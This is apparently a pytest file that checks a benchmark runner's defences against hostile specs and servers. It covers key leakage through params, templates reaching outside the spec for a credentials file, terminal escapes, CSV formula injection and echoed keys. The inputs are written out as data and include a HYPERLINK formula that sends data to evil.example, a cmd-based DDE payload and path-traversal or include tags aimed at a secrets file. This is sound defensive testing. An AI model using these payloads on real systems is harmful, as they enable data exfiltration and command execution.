"""Hostile specs, data and servers, round two: keys through `params`, files outside a spec, terminal escapes,
spreadsheet formulas and keys echoed in replies. Every case runs the installed console script against fake
servers on 127.0.0.1 and checks what the servers received (srv.headers) and what the files hold.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from conftest import EXE
from fakeserver import FakeServer, Reply
from test_adversarial import SECRET, assert_clean, cli, hostile_spec, is_judge, n_items, one_error_line, run, script

PROVIDER_KEY = "sk-provider-9876543210abcdefREAL"  # the user's own OPENAI_API_KEY
JUDGE_BLOCK = "judge:\n  system: judge_system.j2\n  template: judge.j2\n"


@pytest.fixture
def srv():
    with FakeServer() as server:
        yield server


def spec_with_judge(tmp: Path, model: str, system: str = "judge_system.j2", name: str = "hostile") -> Path:
    """The shipped English spec (data beside it) whose judge entry is `model` (a YAML flow mapping)."""
    bench = hostile_spec(tmp)
    if name != "hostile":
        bench = bench.rename(bench.with_name(name))
    yaml_file = bench / "benchmark.yaml"
    text = yaml_file.read_text("utf-8")
    assert JUDGE_BLOCK in text
    yaml_file.write_text(text.replace(JUDGE_BLOCK, f"judge:\n  model: {model}\n  system: {system}\n"
                                                  "  template: judge.j2\n"), "utf-8")
    return bench


def spec_run(srv: FakeServer, tmp: Path, bench: Path, *extra: str, env_extra: dict[str, str] | None = None,
             run_dir: str = "run") -> subprocess.CompletedProcess:
    """A run with the spec's own judge (no judge= override) and a candidate on `srv`."""
    env = {k: v for k, v in os.environ.items() if not k.endswith("_API_KEY")}
    env.update(RUBRIC_ENGINE_CACHE=str(tmp / "cache"), XDG_CACHE_HOME=str(tmp / "xdg"), FAKE_KEY=SECRET)
    env.update(env_extra or {})
    args = [f"benchmark={bench}", "candidate=openai_compatible", "candidate.model=openai/cand",
            f"candidate.api_base={srv.url}", "limit=1", "progress=none", "max_retries=0",
            f"hydra.run.dir={tmp / run_dir}", *extra]
    return subprocess.run([EXE, *args], env=env, capture_output=True, text=True, timeout=240, cwd=tmp)


def sent_keys(server: FakeServer) -> list[str]:
    return [h.get("authorization", "") + h.get("api-key", "") + h.get("x-api-key", "") for h in server.headers]


# -- 1. keys through params ------------------------------------------------------------------------------------

@pytest.mark.parametrize("param", ["api_base", "base_url", "extra_headers", "api_key"])
def test_endpoint_in_spec_judge_params_is_refused_before_any_call(srv: FakeServer, tmp_path: Path, param: str) -> None:
    with FakeServer() as friendly:
        value = {"api_base": f'"{friendly.url}"', "base_url": f'"{friendly.url}"',
                 "extra_headers": '{"X-Leak": "1"}', "api_key": '"sk-x"'}[param]
        bench = spec_with_judge(tmp_path, "{name: friendly-judge, model: openai/gpt-4o, params: {" + param + ": "
                                + value + "}}")
        line = one_error_line(cli(tmp_path, "validate", f"benchmark={bench}"))
        assert f"judge.model.params.{param}" in line and "benchmark.yaml" in line and "api_base field" in line
        srv.handler = script()
        proc = spec_run(srv, tmp_path, bench, env_extra={"OPENAI_API_KEY": PROVIDER_KEY})
        assert f"judge.model.params.{param}" in one_error_line(proc)
        assert friendly.requests == [] and srv.requests == []  # refused before any call, to anyone


@pytest.mark.parametrize("override", ["+candidate.params.api_base={url}", "candidate.params={{base_url: '{url}'}}",
                                      "+candidate.params.extra_headers={{x: y}}"])
def test_endpoint_in_command_line_params_is_refused(srv: FakeServer, tmp_path: Path, override: str) -> None:
    srv.handler = script()
    proc = run(srv, tmp_path, "candidate=gpt-4o", override.format(url=srv.url),
               env_extra={"OPENAI_API_KEY": PROVIDER_KEY})
    line = one_error_line(proc)
    assert "candidate.params." in line and "api_base field" in line
    assert PROVIDER_KEY not in "".join(sent_keys(srv)) and not any(not is_judge(b) for b in srv.requests)


def test_sampling_params_still_pass(srv: FakeServer, tmp_path: Path) -> None:
    srv.handler = script()
    proc = run(srv, tmp_path, "limit=1", "+candidate.params.max_tokens=64", "+candidate.params.top_p=0.5")
    assert proc.returncode == 0, proc.stderr
    body = next(b for b in srv.requests if not is_judge(b))
    assert body["max_tokens"] == 64 and body["top_p"] == 0.5


def test_validate_shows_each_endpoint_and_its_key_variable(tmp_path: Path) -> None:
    bench = spec_with_judge(tmp_path, "{name: j, model: openai/judge, api_base: 'http://127.0.0.1:9/v1', "
                                      "api_key_env: FAKE_KEY}")
    proc = cli(tmp_path, "validate", f"benchmark={bench}")
    assert proc.returncode == 0, proc.stderr
    assert "judge: j (openai/judge) calls endpoint http://127.0.0.1:9/v1, key from $FAKE_KEY" in proc.stdout
    keyless = spec_with_judge(tmp_path / "b", "{name: j, model: openai/judge, api_base: 'http://127.0.0.1:9/v1'}")
    assert "endpoint http://127.0.0.1:9/v1, no key" in cli(tmp_path, "validate", f"benchmark={keyless}").stdout
    shipped = cli(tmp_path, "validate", "benchmark=heartbench_en")
    assert "the provider's endpoint for anthropic, key from $ANTHROPIC_API_KEY" in shipped.stdout


def test_a_dry_run_shows_where_each_role_calls(srv: FakeServer, tmp_path: Path) -> None:
    proc = run(srv, tmp_path, "dry_run=true", "candidate.api_key_env=FAKE_KEY", "candidate.name='cand\x1b[8m'")
    assert proc.returncode == 0, proc.stderr
    assert f"candidate: cand\\x1b[8m (openai/cand) calls endpoint {srv.url}, key from $FAKE_KEY" in proc.stdout
    assert f"judge: judge (openai/judge) calls endpoint {srv.url}, no key" in proc.stdout
    assert srv.requests == []


def test_a_spec_judge_with_its_own_endpoint_gets_only_its_named_key(srv: FakeServer, tmp_path: Path) -> None:
    srv.handler = script(judge=lambda b: json.dumps({"criteria": [{"id": i, "reasoning": "ok", "met": True}
                                                                   for i in range(1, n_items(b) + 1)]}))
    bench = spec_with_judge(tmp_path, f"{{name: j, model: openai/judge, api_base: '{srv.url}'}}")
    proc = spec_run(srv, tmp_path, bench, env_extra={"OPENAI_API_KEY": PROVIDER_KEY})
    assert proc.returncode == 0, proc.stderr
    judged = [h for b, h in zip(srv.requests, srv.headers) if is_judge(b)]
    assert judged and all(PROVIDER_KEY not in h.get("authorization", "") for h in judged)


# -- 2. files a spec names stay inside the spec ----------------------------------------------------------------

def credentials(tmp: Path) -> Path:
    secret = tmp / "secret" / "credentials"
    secret.parent.mkdir(parents=True)
    secret.write_text(f"[default]\naws_secret_access_key = {SECRET}\n", "utf-8")
    return secret


@pytest.mark.parametrize("how", ["relative", "absolute", "symlink"])
def test_a_template_outside_the_spec_is_refused_at_validate_and_run(srv: FakeServer, tmp_path: Path, how: str) -> None:
    secret = credentials(tmp_path)
    system = {"relative": "../../secret/credentials", "absolute": str(secret), "symlink": "sys.j2"}[how]
    bench = spec_with_judge(tmp_path, f"{{name: j, model: openai/judge, api_base: '{srv.url}'}}", system=system)
    if how == "symlink":
        (bench / "sys.j2").symlink_to(secret)
    line = one_error_line(cli(tmp_path, "validate", f"benchmark={bench}"))
    assert "benchmark.yaml" in line and "judge.system" in line and system in line and "outside" in line
    srv.handler = script()
    proc = spec_run(srv, tmp_path, bench)
    assert "judge.system" in one_error_line(proc)
    assert srv.requests == []  # nothing was sent anywhere
    assert SECRET not in proc.stdout + proc.stderr


@pytest.mark.parametrize("how", ["relative", "symlink"])
def test_a_data_file_outside_the_spec_is_refused_but_a_users_data_path_is_not(tmp_path: Path, how: str) -> None:
    bench = hostile_spec(tmp_path)
    outside = tmp_path / "elsewhere" / "rows.jsonl"
    outside.parent.mkdir()
    (bench / "rows.jsonl").rename(outside)
    if how == "symlink":
        (bench / "rows.jsonl").symlink_to(outside)
    else:
        yaml_file = bench / "benchmark.yaml"
        yaml_file.write_text(yaml_file.read_text("utf-8").replace("path: rows.jsonl", "path: ../../elsewhere/rows.jsonl"),
                             "utf-8")
    line = one_error_line(cli(tmp_path, "validate", f"benchmark={bench}"))
    assert "data.path" in line and "outside" in line and "data.path=FILE" in line
    mine = cli(tmp_path, "validate", f"benchmark={bench}", f"data.path={outside}")  # the user's own choice
    assert mine.returncode == 0, mine.stderr


def test_a_spec_library_laid_out_like_the_package_reads_its_own_data_folder(tmp_path: Path) -> None:
    """A checkout (or any spec library) keeps specs in benchmarks/<name>/ and data in data/, as the installed
    package does: a spec found on the search path (./benchmarks here) may name ../../data/FILE, while the same
    spec named by its path from elsewhere may not (that data/ is then outside everything it owns)."""
    lib = tmp_path / "lib"
    bench = hostile_spec(tmp_path / "made").rename(tmp_path / "mine")
    (lib / "benchmarks").mkdir(parents=True)
    bench = bench.rename(lib / "benchmarks" / "mine")
    (lib / "data").mkdir()
    (bench / "rows.jsonl").rename(lib / "data" / "rows.jsonl")
    yaml_file = bench / "benchmark.yaml"
    yaml_file.write_text(yaml_file.read_text("utf-8").replace("path: rows.jsonl", "path: ../../data/rows.jsonl"),
                         "utf-8")
    found = cli(lib, "validate", "benchmark=mine")  # ./benchmarks is on the search path
    assert found.returncode == 0, found.stderr
    line = one_error_line(cli(tmp_path, "validate", f"benchmark={bench}"))
    assert "data.path" in line and "outside" in line


def test_include_and_import_in_a_template_cannot_read_files(tmp_path: Path) -> None:
    secret = credentials(tmp_path)
    for tag in (f"{{% include '{secret}' %}}", f"{{% import '{secret}' as s %}}", "{% include 'judge_system.j2' %}"):
        bench = hostile_spec(tmp_path / str(abs(hash(tag))), tag + "\n")
        proc = cli(tmp_path, "validate", f"benchmark={bench}")
        line = one_error_line(proc)
        assert "judge.j2" in line and SECRET not in proc.stdout + proc.stderr


def test_shipped_specs_still_validate(tmp_path: Path) -> None:
    for name in ("heartbench_en", "reference_qa"):
        proc = cli(tmp_path, "validate", f"benchmark={name}")
        assert proc.returncode == 0, proc.stderr


# -- 3. terminal escapes -------------------------------------------------------------------------------------

def test_escape_sequences_in_a_spec_cannot_hide_the_endpoint_line(tmp_path: Path) -> None:
    bench = spec_with_judge(tmp_path, '{name: "friendly\\e[8m", model: openai/judge, api_base: "http://127.0.0.1:9/v1", '
                                      'api_key_env: FAKE_KEY}')
    yaml_file = bench / "benchmark.yaml"
    yaml_file.write_text(yaml_file.read_text("utf-8").replace("name: heartbench_en", 'name: "hostile\\e[2J\\r"', 1),
                         "utf-8")
    proc = cli(tmp_path, "validate", f"benchmark={bench}")
    assert proc.returncode == 0, proc.stderr
    assert "\x1b" not in proc.stdout + proc.stderr and "\r" not in proc.stdout
    assert "friendly\\x1b[8m (openai/judge) calls endpoint http://127.0.0.1:9/v1, key from $FAKE_KEY" in proc.stdout
    assert "hostile\\x1b[2J\\r" in proc.stdout


def test_escape_sequences_in_data_and_server_texts_are_shown_escaped(srv: FakeServer, tmp_path: Path) -> None:
    bench = hostile_spec(tmp_path)
    rows = [json.loads(line) for line in (bench / "rows.jsonl").read_text("utf-8").splitlines() if line.strip()]
    rows[0]["primary_scene"] = "[red]boom\x1b[8m"  # the scenario column: a breakdown table shows it
    (bench / "rows.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), "utf-8")
    yaml_file = bench / "benchmark.yaml"
    yaml_file.write_text(yaml_file.read_text("utf-8").replace("sha256:", "# sha256:"), "utf-8")
    proc = cli(tmp_path, "validate", f"benchmark={bench}")
    assert "\x1b" not in proc.stdout + proc.stderr
    srv.handler = script(candidate=lambda b: Reply(status=401, error="bad key\x1b[8m hidden\rrewritten"))
    stopped = run(srv, tmp_path, f"benchmark={bench}", "limit=1")
    line = one_error_line(stopped)
    assert "\x1b" not in stopped.stderr and "\\x1b[8m" in line


# -- 4. spreadsheet formulas ------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3"]


def test_csv_cells_the_engine_writes_cannot_be_formulas(srv: FakeServer, tmp_path: Path) -> None:
    bench = hostile_spec(tmp_path)
    rows = [json.loads(line) for line in (bench / "rows.jsonl").read_text("utf-8").splitlines() if line.strip()]
    rubric_key = next(k for k, v in rows[0].items() if isinstance(v, list) and v and isinstance(v[0], dict)
                      and any(isinstance(x, str) and len(x) > 20 for x in v[0].values()))
    text_key = next(k for k, x in rows[0][rubric_key][0].items() if isinstance(x, str) and len(x) > 20)
    for i, formula in enumerate(FORMULAS):
        rows[0][rubric_key][i][text_key] = formula
    (bench / "rows.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), "utf-8")
    yaml_file = bench / "benchmark.yaml"
    yaml_file.write_text(yaml_file.read_text("utf-8").replace("sha256:", "# sha256:"), "utf-8")
    srv.handler = script()
    proc = run(srv, tmp_path, f"benchmark={bench}", "limit=1", "candidate.name='@SUM(1+1)'", "bootstrap.samples=20",
               run_dir="runs/a")
    assert proc.returncode == 0, proc.stderr
    review = cli(tmp_path, "review", "export", str(tmp_path / "runs"), f"out={tmp_path / 'sheet'}", "n=200")
    assert review.returncode == 0, review.stderr
    sheet = list(csv.reader((tmp_path / "sheet" / "review.csv").open(encoding="utf-8-sig", newline="")))
    cells = [c for row in sheet[1:] for c in row]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) or c.lstrip("-").isdigit() for c in cells), cells
    texts = {c for c in cells if c.lstrip("'") in FORMULAS}
    assert texts == {"'" + f for f in FORMULAS}
    index_col = sheet[0].index("criterion_index")
    assert all(row[index_col].lstrip("-").isdigit() for row in sheet[1:])  # numbers stay numbers
    board = cli(tmp_path, "leaderboard", str(tmp_path / "runs"), f"out={tmp_path / 'board'}", "bootstrap.samples=20")
    assert board.returncode == 0, board.stderr
    board_cells = [c for r in csv.reader((tmp_path / "board" / "leaderboard.csv").open(encoding="utf-8", newline=""))
                   for c in r]
    assert "'@SUM(1+1)" in board_cells and not any(c.startswith("@") for c in board_cells)


def test_a_filled_review_sheet_with_guarded_cells_reads_back(tmp_path: Path) -> None:
    from rubric_engine.text.csvcells import cell_value, csv_cell

    for text in FORMULAS + ["'=already quoted", "plain", "-1.5", "'", ""]:
        assert cell_value(csv_cell(text)) == text
    assert csv_cell(-1.5) == -1.5 and csv_cell(3) == 3


# -- 5. keys echoed in replies and reasoning ----------------------------------------------------------------

def test_a_key_echoed_in_replies_and_reasoning_is_redacted_in_every_file(srv: FakeServer, tmp_path: Path) -> None:
    def judge(body: dict[str, Any]) -> str:
        return json.dumps({"criteria": [{"id": i, "reasoning": "you sent {authorization}", "met": True}
                                        for i in range(1, n_items(body) + 1)]})

    srv.handler = script(candidate=lambda b: "Your header was {authorization}; keep it safe.", judge=judge)
    proc = run(srv, tmp_path, "limit=2", "candidate.api_key_env=FAKE_KEY", "judge.api_key_env=FAKE_KEY")
    assert proc.returncode == 0, proc.stderr
    assert any(SECRET in k for k in sent_keys(srv))  # the key went where its entry sent it, and came back
    written = {p.name for p in (tmp_path / "run").iterdir()}
    assert {"answers.jsonl", "samples.jsonl"} <= written
    record = json.loads((tmp_path / "run" / "samples.jsonl").read_text("utf-8").splitlines()[0])
    assert "Bearer ***" in record["response"] and "***" in record["criteria"][0]["reasoning"]
    assert_clean(proc, tmp_path)  # no file under the run (answers, samples, report.html) holds the key
